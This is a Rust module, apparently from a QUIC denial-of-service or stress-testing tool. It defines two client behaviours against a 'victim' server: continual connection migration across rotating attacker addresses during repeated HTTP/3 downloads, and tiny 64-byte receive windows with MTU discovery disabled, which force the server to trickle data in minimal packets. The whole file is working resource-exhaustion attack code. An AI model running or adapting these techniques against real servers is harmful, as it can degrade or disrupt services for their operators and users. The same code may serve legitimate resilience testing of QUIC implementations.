//! Clients that use the limits of what QUIC allows.

use std::io;

use quinn::VarInt;

use super::{Force, KEEP_ALIVE, attacker};
use crate::victim::{another_socket, endpoint};
use crate::wire::Head;

/// Receive window of a stream of a client with tiny windows, in bytes.
const TINY: u32 = 64;

/// Changes the client's address continually during a download.
pub(super) async fn migration(force: &Force, number: usize) -> io::Result<()> {
    // A separate endpoint, because all its connections move.
    let endpoint = endpoint(force.source(number))?;
    let mut transport = quinn::TransportConfig::default();
    transport.keep_alive_interval(Some(KEEP_ALIVE));
    let config = force.victim.quic_config(transport);
    let connection = force.victim.quic(&endpoint, config).await?;
    let _open = force.tally.open();
    let moving = async {
        for turn in 1.. {
            force.act().await;
            let next = (number + turn * 7) % force.scale.addresses.max(1);
            endpoint.rebind(another_socket(attacker(next))?)?;
        }
        Ok(())
    };
    let downloading = async {
        loop {
            let (mut sending, response) = connection.open_bi().await?;
            sending
                .write_all(&Head::get(force.victim.title.as_str()).http3())
                .await?;
            sending.finish().map_err(io::Error::other)?;
            force.drain(response).await?;
        }
    };
    tokio::select! {
        biased;
        failed = downloading => failed,
        failed = moving => failed,
    }
}

/// Makes the server send the title in the smallest packets, with only a few bytes in each.
pub(super) async fn tiny_windows(force: &Force, number: usize) -> io::Result<()> {
    let tiny = |transport: &mut quinn::TransportConfig| {
        transport.stream_receive_window(VarInt::from_u32(TINY));
        transport.receive_window(VarInt::from_u32(TINY * 4));
        transport.mtu_discovery_config(None);
    };
    let connection = force.quic(number, tiny).await?;
    let _open = force.tally.open();
    let mut responses = Vec::new();
    for _ in 0..4 {
        let (mut sending, response) = connection.open_bi().await?;
        let head = Head::get(force.victim.title.as_str()).http3();
        sending.write_all(&head).await?;
        sending.finish().map_err(io::Error::other)?;
        responses.push(response);
    }
    let mut buffer = [0; 16];
    loop {
        for response in &mut responses {
            force.act().await;
            if response
                .read(&mut buffer)
                .await
                .map_err(io::Error::other)?
                .is_none()
            {
                return Ok(());
            }
        }
    }
}
